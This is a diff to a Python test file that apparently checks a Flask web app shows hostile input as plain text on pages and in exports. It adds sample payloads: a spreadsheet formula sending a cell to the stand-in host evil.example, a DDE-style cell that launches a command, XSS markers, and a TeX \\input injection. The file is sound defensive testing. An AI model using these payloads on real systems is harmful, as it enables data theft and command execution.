@@ -1,8 +1,8 @@
 """Hostile text of documents on every page and in every export: shown as text, and as nothing else.
 
-Markup, scripts, characters that turn the direction of text, a word of ten thousand characters,
-emoji with joiners, and cells that a spreadsheet would evaluate; as titles, headings, cells, names
-and agencies.
+Markup, scripts, characters that turn the direction of text or that XML does not know, a word of ten
+thousand characters, emoji with joiners, commands of TeX, and cells that a spreadsheet would
+evaluate; as titles, headings, cells, names and agencies.
 """
 
 from __future__ import annotations
@@ -34,6 +34,9 @@ TURNED = "反轉\u202e遣返人數\u202c結束\u2067孤立"
 EMOJI = "家庭👩\u200d👩\u200d👧\u200d👦旗🏳️\u200d🌈"
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"點我")'
 LONG = "長" * 10_000
+#: Characters that XML does not know, lines that are none, tags of no language, marks on one letter,
+#: and what TeX would read.
+ODD = "非字元\ufffe\uffff分行\u2028\u0085標籤\U000e0041組合e" + "\u0301" * 300 + "}}\\input{x}"
 REPORT = f"""# {FORMULA} {MARKUP}
 
 資料提供：雲海縣{TURNED}港務局
@@ -44,6 +47,8 @@ REPORT = f"""# {FORMULA} {MARKUP}
 
 {LONG}
 
+113年遣返{ODD}共7名。
+
 ## {TURNED}{EMOJI}
 
 表1 {FORMULA}
@@ -53,7 +58,7 @@ REPORT = f"""# {FORMULA} {MARKUP}
 | {FORMULA} | 12 | +34 |
 | -2+3+cmd\\|' /C calc'!A0 | {TURNED} | {EMOJI} |
 """
-QUERIES = ("遣返", "112年遣返多少名？", MARKUP, TURNED, EMOJI, FORMULA, LONG[:1500], "港務局")
+QUERIES = ("遣返", "112年遣返多少名？", MARKUP, TURNED, EMOJI, FORMULA, LONG[:1500], "港務局", ODD)
 #: Elements and attributes that only hostile text could have put on a page.
 FOREIGN = "//img[@src='x'] | //*[@onerror] | //*[@onmouseover] | //script[contains(., 'alert')]"
 
@@ -119,6 +124,21 @@ def test_batches_show_it_as_text(client: FlaskClient) -> None:
     assert reply.status_code == 200
     assert not page.xpath(FOREIGN)
     assert "onerror=alert(1)" in "".join(page.itertext())
+
+
+@pytest.mark.parametrize("text", [MARKUP, TURNED, EMOJI, FORMULA, ODD, LONG[:1500]])
+def test_what_is_checked_is_shown_as_text(client: FlaskClient, text: str) -> None:
+    quotation = f"{text}112年遣返共506名，依司法互助協議第4條辦理。"
+    for path, values in (
+        ("/verify-quote", {"text": quotation}),
+        ("/audit", {"text": f"「{quotation}」{text}", "format": "page"}),
+        ("/search/open", {"text": f'{{"kind": "{text}"}}'}),
+    ):
+        reply = client.post(path, data=values)
+        assert reply.status_code in (200, 400), path
+        page = lxml.html.document_fromstring(reply.text)
+        assert not page.xpath(FOREIGN), path
+        assert "1337" not in reply.text
 
 
 def cells(text: str) -> list[str]:
@@ -196,5 +216,9 @@ def test_records_of_reference_managers_stay_records(client: FlaskClient, form: s
     if form == "ris":
         lines = [line for line in text.split("\r\n") if line]
         assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in lines)
+    if form == "bibtex":
+        assert not re.search(r"(?<!\\)\\input", text)
+        signs = re.sub(r"\\[{}]", "", text)
+        assert signs.count("{") == signs.count("}")
     if form == "csl-json":
         assert json.loads(text)
